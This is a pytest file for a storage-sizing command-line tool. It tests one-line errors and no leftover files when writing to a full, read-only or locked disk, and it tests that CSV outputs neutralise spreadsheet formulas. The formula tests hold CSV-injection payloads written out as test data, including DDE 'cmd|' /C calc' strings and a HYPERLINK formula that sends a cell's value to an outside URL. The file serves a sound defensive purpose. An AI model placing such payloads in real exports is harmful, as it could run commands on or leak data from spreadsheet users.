"""Every command's output on a disk that refuses it: a full tmpfs, a read-only bind mount and a folder without write
permission give exit 2, one line naming the path and the reason, and leave no file or folder behind; and every
CSV iobound writes neutralises cells a spreadsheet would run."""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from probes.core.errors import InputError
from probes.core.outputs import csv_text, new_folder, plain_cell, spreadsheet_cell, write_new
from tests.conftest import CORPUS, edited_list

WORKTREE = Path(__file__).resolve().parent.parent
DESCRIPTION = CORPUS / "io500" / "oci-beegfs_system-information.txt"
NAS = ["size", "--clients", "20", "--client-nic", "10Gbit/s", "--target", "read=2GB/s", "--target", "write=2GB/s",
       "--usable", "100TB"]


def iobound(*argv, stdout=subprocess.PIPE) -> subprocess.CompletedProcess:
    """The real command in a process of its own, as a user runs it."""
    env = {**os.environ, "PYTHONPATH": str(WORKTREE), "NO_COLOR": "1"}
    return subprocess.run([sys.executable, "-m", "assess", *map(str, argv)], stdout=stdout, stderr=subprocess.PIPE,
                          text=True, env=env, cwd=WORKTREE, timeout=600)


def _fill(folder: Path) -> None:
    """Fill the disk of ``folder`` to its last byte."""
    with open(folder / "filler", "wb", buffering=0) as f:
        for size in (1 << 16, 1 << 12, 1 << 8, 1):
            try:
                while True:
                    f.write(b"\0" * size)
            except OSError as exc:
                assert exc.errno == errno.ENOSPC
    assert shutil.disk_usage(folder).free == 0


@pytest.fixture(scope="module")
def disks(tmp_path_factory):
    """Folders that refuse a write, each with the reason the system gives: a full 1 MiB tmpfs, a read-only bind
    mount, and a folder made immutable (chattr +i: root passes every permission bit, not that flag)."""
    if os.geteuid() != 0 or not shutil.which("mount") or not shutil.which("chattr"):
        pytest.skip("needs root (mount, chattr) to make a full disk, a read-only mount and an unwritable folder")
    base = tmp_path_factory.mktemp("disks")
    full, source, ro, locked = base / "full", base / "source", base / "ro", base / "locked"
    for folder in (full, source, ro, locked):
        folder.mkdir()
    for folder in (source, locked):
        (folder / "existing").mkdir()  # a folder a report may go into (the full disk's is made once it is mounted)
    mounted = []
    try:
        for argv, target in ((["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", full], full),
                             (["mount", "--bind", "-o", "ro", source, ro], ro)):
            done = subprocess.run(list(map(str, argv)), capture_output=True, text=True)
            if done.returncode:
                pytest.skip(f"cannot mount here: {done.stderr.strip()}")
            mounted.append(target)
        (full / "existing").mkdir()
        if subprocess.run(["chattr", "+i", str(locked), str(locked / "existing")], capture_output=True).returncode:
            pytest.skip("chattr +i is refused on this file system")
        _fill(full)
        yield {full: "No space left on device", ro: "Read-only file system", locked: "Operation not permitted"}
    finally:
        subprocess.run(["chattr", "-i", str(locked), str(locked / "existing")], capture_output=True)
        for target in reversed(mounted):
            subprocess.run(["umount", str(target)], check=True)


def _outputs(small_list: Path) -> dict[str, tuple]:
    """Each command with an output: its argv, the output's name in the folder under test last."""
    commands = {
        "size -o": (*NAS, "-o", "sized.toml"),
        "size --bom": (*NAS, "--bom", "bom.csv"),
        "report -o": ("report", "lecture", "lecture-results.csv", "-o", "report"),
        "report -o (a folder and its parent)": ("report", "lecture", "lecture-results.csv", "-o", "new/report"),
        "report -o (a folder that exists)": ("report", "lecture", "lecture-results.csv", "-o", "existing"),
        "review --html": ("review", small_list, "--fail-on", "never", "--html", "pages"),
        "probe -o": ("probe", "--jobs", "1", "--runtime", "0.2", "--budget", "4", "--quiet", "-o", "node.json"),
        "plan -o": ("plan", "lecture", "--benchmark", "ior", "-o", "plan"),
        "review --darshan --index": ("review", "--darshan", Path(__file__).parent / "data" / "darshan", "lecture",
                                     "--index", "index.sqlite"),
    }
    if DESCRIPTION.is_file():
        commands["topology from-io500 -o"] = ("topology", "from-io500", DESCRIPTION, "-o", "oci.toml")
    return commands


def _refused(done: subprocess.CompletedProcess, path: Path, reason: str) -> None:
    lines = done.stderr.splitlines()
    assert done.returncode == 2 and len(lines) == 1, done.stderr
    assert lines[0] == f"iobound: error: {path}: cannot be written: {reason} (nothing was written)" or \
        lines[0].startswith(f"iobound: error: {path}: cannot be written: {reason} ("), lines[0]


@pytest.mark.slow
@pytest.mark.parametrize("name", ["size -o", "size --bom", "report -o", "report -o (a folder and its parent)",
                                  "report -o (a folder that exists)", "review --html", "probe -o",
                                  "topology from-io500 -o", "plan -o", "review --darshan --index"])
def test_an_output_the_disk_refuses_is_one_line_and_leaves_nothing(disks, small_list, name):
    commands = _outputs(small_list)
    if name not in commands:
        pytest.skip(f"the corpus's io500 description is not here ({DESCRIPTION})")
    *argv, target = commands[name]
    for folder, reason in disks.items():
        before = _tree(folder)
        done = iobound(*argv, folder / target)
        _refused(done, folder / Path(target).parts[0], reason)
        assert _tree(folder) == before  # no file, no folder, no temporary name


def _tree(folder: Path) -> list[str]:
    return sorted(str(Path(top, name).relative_to(folder)) for top, folders, files in os.walk(folder)
                  for name in folders + files)


@pytest.mark.slow
def test_a_report_that_outgrows_the_disk_midway_leaves_nothing(tmp_path):
    """1 MiB holds the start of a report's plots, not all of them: the write fails late, and the half-built folder goes."""
    if os.geteuid() != 0:
        pytest.skip("needs root to mount a tmpfs")
    small = tmp_path / "small"
    small.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", str(small)], capture_output=True).returncode:
        pytest.skip("cannot mount a tmpfs here")
    try:
        done = iobound("report", "lecture", "lecture-results.csv", "-o", small / "report")
        _refused(done, small / "report", "No space left on device")
        assert os.listdir(small) == []
    finally:
        subprocess.run(["umount", str(small)], check=True)


@pytest.mark.slow
@pytest.mark.parametrize("argv", [("read", "lecture-results.csv", "--csv"), ("check", "lecture", "lecture-results.csv"),
                                  ("review", "{list}", "--csv", "--fail-on", "never")])
def test_a_full_disk_behind_the_standard_output_is_one_line(disks, small_list, argv):
    full = next(iter(disks))
    with open(full / "out.txt", "w") as out:
        done = iobound(*(str(word).format(list=small_list) for word in argv), stdout=out)
    (full / "out.txt").unlink()
    assert done.returncode == 2, done.stderr
    assert done.stderr == "iobound: error: standard output: cannot be written: No space left on device\n"


def test_a_new_file_is_never_written_over_and_a_failed_one_leaves_nothing(tmp_path):
    mine = tmp_path / "mine.txt"
    mine.write_text("precious")
    with pytest.raises(InputError, match="exists already"):
        write_new(mine, "new")
    assert mine.read_text() == "precious" and os.listdir(tmp_path) == ["mine.txt"]
    assert write_new(tmp_path / "new.txt", "ünïcode").read_text(encoding="utf-8") == "ünïcode"


def test_a_folder_appears_whole_or_not_at_all(tmp_path):
    target = tmp_path / "made" / "report"
    with pytest.raises(RuntimeError):
        with new_folder(target, parents=True) as staged:
            (staged / "half.html").write_text("half")
            assert not target.exists()
            raise RuntimeError("stopped midway")
    assert os.listdir(tmp_path) == []
    with new_folder(target, parents=True) as staged:
        (staged / "index.html").write_text("whole")
        taken = tmp_path / "other"
    assert (target / "index.html").read_text() == "whole" and sorted(os.listdir(tmp_path)) == ["made"]
    with pytest.raises(InputError, match="was made by another command while this one worked"):
        with new_folder(taken) as staged:
            (staged / "index.html").write_text("second")
            taken.mkdir()
            (taken / "index.html").write_text("first")
    assert (taken / "index.html").read_text() == "first" and sorted(os.listdir(tmp_path)) == ["made", "other"]


# Cells a spreadsheet would run (OWASP's list of first characters), and cells it shows as they are.
FORMULAS = ("=HYPERLINK(\"http://x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-cmd", "+", "-")
PLAIN = ("-1.5", "-3", "+4", "-2e-3", "1e300", "0.5", "text", "", "a=b", "'quoted")


def test_a_formula_is_neutralised_and_a_number_kept():
    assert [spreadsheet_cell(c) for c in FORMULAS] == ["'" + c for c in FORMULAS]
    assert [spreadsheet_cell(c) for c in PLAIN] == list(PLAIN)
    assert [plain_cell(spreadsheet_cell(c)) for c in FORMULAS + PLAIN] == list(FORMULAS + PLAIN)
    rows = list(csv.reader(io.StringIO(csv_text([("name", "value"), ("=1+1", -2.5)]))))
    assert rows == [["name", "value"], ["'=1+1", "-2.5"]]


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _runs_formula(cell: str) -> bool:
    """True if a spreadsheet would take ``cell`` as a formula (a plain number is a number, not a formula)."""
    return cell.startswith(("=", "+", "-", "@", "\t", "\r")) and spreadsheet_cell(cell) != cell


@pytest.mark.slow
def test_every_csv_writer_neutralises_formulas(small_list, tmp_path, capsys):
    """review --csv (a system's name from the list), size --bom (a prices file's names, descriptions and sources)
    and read --csv (a fio job's name) write no cell a spreadsheet would run; what they write reads back the same."""
    from assess.cli import main

    evil = '=HYPERLINK("http://example.com/?"&A1,"x")'
    listed = edited_list(small_list, tmp_path, "information_system", evil)
    assert main(["review", str(listed), "--csv", "--fail-on", "never"]) == 0
    reviewed = _csv_cells(capsys.readouterr().out)
    assert "'" + evil + " (WekaIO)" in reviewed  # the title: the system and its institution

    prices = tmp_path / "prices.toml"
    prices.write_text('[devices.hdd-20tb]\nprice = 350\nprice_source = "@SUM(1+1)*cmd|\' /C calc\'!A0"\n'
                      '[lines."-support"]\nprice = 10\nper = "TB"\ndescription = "+support, 3 years"\n')
    bom = tmp_path / "bom.csv"
    assert main([*NAS, "--prices", str(prices), "--bom", str(bom)]) == 0
    billed = _csv_cells(bom.read_text(encoding="utf-8"))
    assert {"'@SUM(1+1)*cmd|' /C calc'!A0", "'-support", "'+support, 3 years"} <= set(billed)

    fio = json.loads((WORKTREE / "tests/data/readers/fio-3.33_json_seqwrite.json").read_text())
    fio["jobs"][0]["jobname"] = "-2+3+cmd|' /C calc'!A0"
    job = tmp_path / "fio.json"
    job.write_text(json.dumps(fio))
    capsys.readouterr()
    assert main(["read", str(job), "--csv"]) == 0
    table = capsys.readouterr().out
    assert "'-2+3+cmd|' /C calc'!A0 write" in _csv_cells(table)  # the job's name and its operation
    for cells in (reviewed, billed, _csv_cells(table)):
        assert not [c for c in cells if _runs_formula(c)]
    again = tmp_path / "again.csv"
    again.write_text(table)
    assert main(["read", str(again), "--json"]) == 0  # iobound reads its table back with the name as it was
    assert json.loads(capsys.readouterr().out)["runs"][0]["label"] == "-2+3+cmd|' /C calc'!A0 write"


@pytest.mark.slow
def test_two_reports_into_one_folder_at_once_never_call_the_other_s_files_foreign(tmp_path):
    """Two reports started together into a new folder, then into an existing one: one writes it, the other says
    why not, and never that the first one's files were not written by iobound."""
    env = {**os.environ, "PYTHONPATH": str(WORKTREE)}
    for target in (tmp_path / "new", tmp_path / "existing"):
        if target.name == "existing":
            target.mkdir()
        argv = [sys.executable, "-m", "assess", "report", "lecture", "lecture-results.csv", "-o", str(target)]
        both = [subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env, cwd=WORKTREE)
                for _ in range(2)]
        done = sorted((p.wait(timeout=600), p.stderr.read()) for p in both)
        for p in both:
            p.stdout.close()
            p.stderr.close()
        assert [status for status, _ in done] == [0, 2], done
        refused = done[1][1]
        assert "did not write" not in refused and refused.count("\n") == 1
        assert any(why in refused for why in ("was made by another command while this one worked",
                                              "another iobound report is being written into it now",
                                              "already holds a report")), refused
        assert (target / "report.html").is_file() and not [n for n in os.listdir(tmp_path) if n.startswith(".")]
